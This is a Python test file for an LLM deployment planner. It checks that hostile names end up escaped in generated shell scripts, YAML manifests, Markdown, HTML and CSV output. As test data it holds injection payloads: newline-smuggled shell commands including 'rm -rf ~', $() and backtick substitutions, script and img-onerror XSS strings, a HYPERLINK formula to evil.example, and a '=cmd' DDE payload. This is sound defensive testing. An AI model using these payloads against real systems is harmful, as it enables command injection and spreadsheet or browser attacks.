"""Outside strings never reach a shell line, YAML, Markdown/HTML or a CSV formula unquoted (issue #20, items 1, 8).

The hostile names are put on specs with ``model_copy`` (which skips validation), as if a catalog file had got
past the loader: the generators must be safe on their own; the loader refusing them is tested below too.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from planner.cli.app import app
from planner.deploy import deployment_bundle
from fleet_helpers import fleet_plan_report
from planner.io import catalog
from planner.io.catalog import SpecError
from planner.plan_report import plan_report
from planner.quoting import comment_line, control_char_problem, csv_cell, md_code_block, md_text, visible
from planner.report import write_csv
from planner.specs import Deployment, GpuSpec, Workload

#: What a hostile config.json / YAML / flag can put in a name: a newline and a command, a quote, $(), backticks,
#: a formula, HTML, a NEL and a U+2028 line separator.
EVIL_NAME = "Evil\ntouch PWNED_NL\n#'\"$(touch PWNED_SUB)`touch PWNED_BT`=1+1<script>alert(1)</script>\x85x\u2028y"
EVIL_REPO = "org/x\ntouch PWNED_REPO\n#'$(touch PWNED_REPO2)"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile_specs(name=EVIL_NAME, gpu_name="<b>GPU</b>\nrm -rf ~\n"):
    m = catalog.model("llama-3.1-8b").model_copy(update={"name": name, "hf_repo": EVIL_REPO})
    g = catalog.gpu("h200-sxm").model_copy(update={"name": gpu_name})
    return m, g


def _bundle(**kw):
    m, g = _hostile_specs(**kw)
    wl = Workload(prompt_tokens=1024, output_tokens=128, request_rate_per_s=5.0)
    return deployment_bundle(m, g, Deployment.for_gpu(g), wl)


def test_helpers():
    """The one quoting module: escapes are visible and on one line; fences cannot be closed from inside."""
    assert visible("a\nb\r\tc\x1b\u2028\u202e") == "a\\nb\\r\\tc\\x1b\\u2028\\u202e"
    assert "\n" not in comment_line("x\ny") and comment_line("x\ny").startswith("# ")
    assert md_text("<script>|") == "&lt;script&gt;\\|"
    fence = md_code_block("a ```` b", "sh")
    assert fence[0] == "`````sh" and fence[-1] == "`````"
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-x") == "'-x" and csv_cell("@x") == "'@x"
    assert csv_cell("\tx") == "'\\tx" and csv_cell("\rx") == "'\\rx" and csv_cell("+x") == "'+x"
    assert csv_cell(-5.0) == -5.0 and csv_cell("ok") == "ok"
    assert control_char_problem("ok") is None and "U+000A" in control_char_problem("a\nb")


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
def test_serve_sh_runs_no_injected_command(tmp_path):
    """serve.sh with a hostile model/GPU name and repo: ``sh -n`` parses it, every line before the command is a
    comment, and running it (``vllm`` a stub function) creates no file and passes the repo as one argument."""
    b = _bundle()
    text = b.files["serve.sh"]
    (tmp_path / "serve.sh").write_text(text)
    subprocess.run(["sh", "-n", "serve.sh"], cwd=tmp_path, check=True)
    head, _, command = text.partition("\nvllm serve ")
    assert all(line.startswith("#") for line in head.splitlines()), head
    stub = 'vllm() { for a in "$@"; do printf "%s\\0" "$a"; done > argv.bin; }; . ./serve.sh'
    subprocess.run(["sh", "-c", stub], cwd=tmp_path, check=True, timeout=30)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["argv.bin", "serve.sh"]  # no PWNED_* file
    argv = (tmp_path / "argv.bin").read_bytes().decode().split("\0")[:-1]
    assert argv[0] == "serve" and argv[1] == EVIL_REPO and argv == list(b.serve.argv[1:])


def test_manifests_hold_the_name_as_data_only():
    """Every YAML file: the header is comment lines only, the documents parse, and the hostile repo is
    the container's argument exactly (data, never a line of its own)."""
    b = _bundle()
    for fname in ("k8s-deployment.yaml", "helm-values-production-stack.yaml"):
        text = b.files[fname]
        head = text.split("\n---\n")[0] if fname.startswith("k8s") else text
        lines = head.splitlines()
        n_comments = next(i for i, line in enumerate(lines) if not line.startswith("#"))
        assert n_comments == 2, lines[:4]
        assert not any("PWNED" in line and not line.startswith(("#", " ", "-")) for line in lines), fname
        docs = [d for d in yaml.safe_load_all(text) if d]
        assert docs, fname
    dep = next(yaml.safe_load_all(b.files["k8s-deployment.yaml"]))
    container = dep["spec"]["template"]["spec"]["containers"][0]
    assert container["args"][0] == EVIL_REPO
    helm = yaml.safe_load(b.files["helm-values-production-stack.yaml"])
    assert helm["servingEngineSpec"]["modelSpec"][0]["modelURL"] == EVIL_REPO


def test_multinode_raycluster_head_script_is_quoted():
    """A replica across nodes: the RayCluster's head script execs the command with the repo as one word."""
    m = catalog.model("llama-3.1-405b").model_copy(update={"name": EVIL_NAME, "hf_repo": EVIL_REPO})
    g = catalog.gpu("h100-sxm")
    b = deployment_bundle(m, g, Deployment.for_gpu(g), Workload(prompt_tokens=1024, output_tokens=128))
    from planner.deploy.ray import serve_argv_of_head

    docs = [d for d in yaml.safe_load_all(b.files["k8s-raycluster.yaml"]) if d]
    script = docs[0]["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["args"][0]
    subprocess.run(["bash", "-n", "-c", script], check=True)
    assert serve_argv_of_head(script)[2] == EVIL_REPO
    assert all(line.startswith("#") for line in b.files["k8s-raycluster.yaml"].split("\n---\n")[0].splitlines()[:2])


def test_readme_escapes_html_and_keeps_its_code_fence():
    """README.md: no raw <script>, the title is one line, the command sits inside a fence nothing closes."""
    b = _bundle()
    readme = b.files["README.md"]
    assert "<script>" not in readme and "<b>" not in readme and "&lt;script&gt;" in readme
    title = readme.splitlines()[0]
    assert title.startswith("# Evil\\ntouch PWNED_NL") and title.endswith("deployment bundle")
    outside, inside = [], False
    for line in readme.splitlines():
        if line.startswith("```"):
            inside = not inside
        else:
            (outside if not inside else []).append(line)
    assert not inside and not any("touch PWNED" in line and not line.startswith("# ") for line in outside)


def test_deploy_predictions_json_round_trips_the_name():
    b = _bundle()
    pred = json.loads(b.files["predictions.json"])
    assert pred["serve_argv"][2] == EVIL_REPO


def _plan_report(name):
    m, g = _hostile_specs(name=name, gpu_name="<img src=x onerror=alert(1)>")
    return fleet_plan_report(m, g, Workload(prompt_tokens=1024, output_tokens=128),
                             catalog.profile_for(g.id) or __import__("planner.profile").profile.IDEAL_PROFILE)


def test_plan_markdown_and_csv_escape_names():
    """plan.md: HTML escaped, one line per name; plan.csv: a formula name gets an apostrophe (OWASP)."""
    pr = _plan_report(FORMULA_NAME + "<script>alert(1)</script>\nline")
    md = pr.markdown()
    assert "<script>" not in md and "<img" not in md and "&lt;script&gt;" in md
    assert not any(line.startswith("line") for line in md.splitlines())
    rows = list(csv.reader(io.StringIO(pr.csv_text())))
    model_row = next(r for r in rows if r[1] == "model")
    assert model_row[2].startswith("'=HYPERLINK(")
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)
    assert "<script>" not in pr.html() and "<img" not in pr.html()


def test_sweep_csv_quotes_text_cells_and_leaves_numbers():
    """write_csv: a text cell starting = + - @ gets an apostrophe; a negative number stays a number."""
    from planner.report import PROVENANCE_COLUMNS

    df = pd.DataFrame({c: ["x"] for c in PROVENANCE_COLUMNS})
    df["price_source"] = ["=cmd|'/c calc'!A1"]
    df["delta_s"] = [-1.5]
    got = pd.read_csv(io.StringIO(__import__("planner.report").report.csv_bytes(df).decode()))
    assert got["price_source"][0] == "'=cmd|'/c calc'!A1" and got["delta_s"][0] == -1.5


@pytest.mark.parametrize("field", ["name", "memory_marketed", "interconnect"])
def test_gpu_yaml_with_a_control_character_is_refused_naming_the_field(tmp_path, field):
    d = yaml.safe_load(open(catalog.HARDWARE_DIR / "h200-sxm.yaml", encoding="utf-8"))
    d[field] = "x\ntouch PWNED"
    p = tmp_path / "evil.yaml"
    p.write_text(yaml.safe_dump(d))
    with pytest.raises(SpecError, match=rf"evil.yaml: {field}: contains the control character U\+000A"):
        catalog.load_spec_file(GpuSpec, p)


def _config(tmp_path, **over):
    from test_catalog import MISTRAL_7B_V03

    p = tmp_path / "config.json"
    p.write_text(json.dumps({**MISTRAL_7B_V03, **over}))
    return p


def test_import_hf_refuses_a_control_character_naming_the_field(tmp_path):
    r = CliRunner().invoke(app, ["import-hf", str(_config(tmp_path, _name_or_path="org/Evil\ntouch PWNED\n#")),
                                 "--id", "evil"])
    assert r.exit_code == 2 and r.output.strip().startswith("error: config.json: '_name_or_path' contains")
    for flag in ("--name", "--hf-repo", "--id"):
        r = CliRunner().invoke(app, ["import-hf", str(_config(tmp_path)), "--id", "ok", flag, "x\ntouch PWNED"])
        assert r.exit_code == 2 and r.output.strip().startswith(f"error: {flag}: contains the control"), r.output
    r = CliRunner().invoke(app, ["import-hf", str(_config(tmp_path, _name_or_path="org/$(touch x)`y`")),
                                 "--id", "ok"])
    assert r.exit_code == 0 and yaml.safe_load(r.output)["hf_repo"] == "org/$(touch x)`y`"  # data, quoted on use


def test_dashboard_deploy_zip_is_the_quoted_bundle():
    """The dashboard's Deploy download zips the same files: serve.sh's comment lines stay comments."""
    import zipfile

    from planner.dashboard.deploy_view import files_zip

    b = _bundle()
    z = zipfile.ZipFile(io.BytesIO(files_zip(b.files)))
    sh = z.read("deploy/serve.sh").decode()
    assert sh == b.files["serve.sh"]
    assert all(line.startswith("#") for line in sh.partition("\nvllm serve ")[0].splitlines())
